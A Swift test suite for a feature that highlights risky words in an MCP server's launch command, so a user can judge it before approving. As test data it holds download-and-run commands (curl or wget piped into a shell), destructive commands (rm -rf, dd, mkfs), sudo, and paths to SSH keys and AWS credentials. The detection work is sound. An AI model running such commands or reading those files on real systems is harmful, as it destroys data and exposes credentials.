@testable import GtkFront
import Testing

/// Which words of a command line the launch question highlights, and that its markup keeps
/// the command's own text as text. No display needed.
@Suite("Risky words in a server's command line")
struct RiskyCommandWordsTests {
    /// The highlighted parts of `commandLine`, as text.
    func highlighted(_ commandLine: String, home: String = "/home/me") -> [String] {
        RiskyCommandWords.ranges(in: commandLine, home: home).map { String(commandLine[$0]) }
    }

    @Test("Ordinary server commands have nothing highlighted")
    func ordinaryCommands() {
        #expect(highlighted("npx -y @modelcontextprotocol/server-filesystem /home/me/Documents").isEmpty)
        #expect(highlighted("uvx mcp-server-time --local-timezone=Europe/Paris").isEmpty)
        #expect(highlighted("/usr/bin/python3 -m mcp_server_fetch").isEmpty)
        #expect(highlighted("docker run -i --rm ghcr.io/github/github-mcp-server").isEmpty, "--rm is an option, not rm")
        #expect(highlighted("node server.js --format sudoku --dry-run > /dev/null").isEmpty)
    }

    @Test("Gaining rights and destroying data: sudo, su, rm with its options, dd, mkfs.*, chmod, a program named by its path")
    func privilegeAndDestruction() {
        #expect(highlighted("sudo npx server") == ["sudo"])
        #expect(highlighted("rm -rf build && npx server") == ["rm -rf"])
        #expect(highlighted("/usr/bin/sudo -E node index.js") == ["/usr/bin/sudo -E"])
        #expect(highlighted("dd if=image of=out") == ["dd"])
        #expect(highlighted("mkfs.ext4 disk.img") == ["mkfs.ext4"])
        #expect(highlighted("chmod -R 777 data") == ["chmod -R"])
        #expect(highlighted("su root -c server") == ["su"])
    }

    @Test("Text run as a program: bash -c, sh -lc, python3 -c, node -e, and a download piped into a shell")
    func textRunAsCode() {
        #expect(highlighted("bash -c 'npx server'") == ["bash -c"])
        #expect(highlighted("/bin/sh -lc server") == ["/bin/sh -lc"])
        #expect(highlighted("python3 -c 'import os'") == ["python3 -c"])
        #expect(highlighted("node -e 'require(1)'") == ["node -e"])
        #expect(highlighted("bash --login script.sh").isEmpty, "a script file is not text handed over")
        #expect(highlighted("sh -c 'curl -fsSL https://x.example/i.sh | sh'") == ["sh -c", "curl", "| sh"])
        #expect(highlighted("sh -c 'wget -qO- https://x.example | bash -s'") == ["sh -c", "wget", "| bash"])
    }

    @Test("System folders, devices and folders of keys, also as an option's value; harmless devices are not")
    func riskyPaths() {
        #expect(highlighted("npx server-filesystem /etc") == ["/etc"])
        #expect(highlighted("npx server-filesystem ~/.ssh") == ["~/.ssh"])
        #expect(highlighted("server --root=/home/me/.ssh/id_ed25519") == ["/home/me/.ssh/id_ed25519"])
        #expect(highlighted("server --config '$HOME/.aws/credentials'") == ["$HOME/.aws/credentials"])
        #expect(highlighted("server /") == ["/"])
        #expect(highlighted("server --disk /dev/sda") == ["/dev/sda"])
        #expect(highlighted("server --log /dev/null").isEmpty)
    }

    @Test("The user's own folder is theirs to give, but for its keys — also when it is /root")
    func homeFolder() {
        #expect(highlighted("/root/.local/bin/server /root/notes", home: "/root").isEmpty)
        #expect(highlighted("server /root/.ssh", home: "/root") == ["/root/.ssh"])
        #expect(highlighted("server /root/notes", home: "/home/me") == ["/root/notes"])
    }

    @Test("The markup escapes the command's own text; only the highlights are markup")
    func markupIsEscaped() {
        let markup = RiskyCommandWords.markup("sh -c 'a <b> && rm -f x'", spanAttributes: "weight=\"bold\"", home: "/home/me")
        #expect(markup == "<span weight=\"bold\">sh -c</span> &#39;a &lt;b&gt; &amp;&amp; <span weight=\"bold\">rm -f</span> x&#39;")
        #expect(RiskyCommandWords.markup("npx <x>", spanAttributes: "", home: "/home/me") == "npx &lt;x&gt;")
    }

    @Test("Environment variables that change which code runs")
    func riskyVariables() {
        #expect(RiskyCommandWords.isRisky(variable: "LD_PRELOAD"))
        #expect(RiskyCommandWords.isRisky(variable: "NODE_OPTIONS"))
        #expect(!RiskyCommandWords.isRisky(variable: "GITHUB_TOKEN"))
    }
}
